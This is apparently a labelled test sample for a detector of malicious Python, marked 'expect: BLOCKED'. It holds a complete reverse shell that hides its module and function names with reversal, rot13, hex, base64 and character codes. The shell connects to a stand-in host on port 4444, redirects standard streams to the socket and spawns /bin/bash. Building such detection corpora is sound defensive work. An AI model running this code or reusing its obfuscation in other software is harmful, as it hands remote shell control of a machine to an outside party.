# expect: BLOCKED category: reverse_shell variant-of: risky/reverse_shell/dup2_pty.py technique: encode+getattr
os = __import__('so'[::-1])
pty = __import__(__import__('codecs').decode('cgl', 'rot13'))
socket = __import__(''.join(['s', 'o', 'c', 'k', 'e', 't']))
HOST, PORT = (getattr(bytes, __import__('base64').b64decode('ZnJvbWhleA==').decode())('3230332e302e3131332e35').decode(), 4444)
s = getattr(socket, bytes.fromhex('736f636b6574').decode())(socket.AF_INET, socket.SOCK_STREAM)
getattr(s, ''.join(map(chr, [99, 111, 110, 110, 101, 99, 116])))((HOST, PORT))
for fd in (0, 1, 2):
    getattr(os, __import__('codecs').decode('qhc2', 'rot13'))(getattr(s, 'onelif'[::-1])(), fd)
getattr(pty, ''.join(['s', 'p', 'a', 'w', 'n']))(''.join(map(chr, [47, 98, 105, 110, 47, 98, 97, 115, 104])))
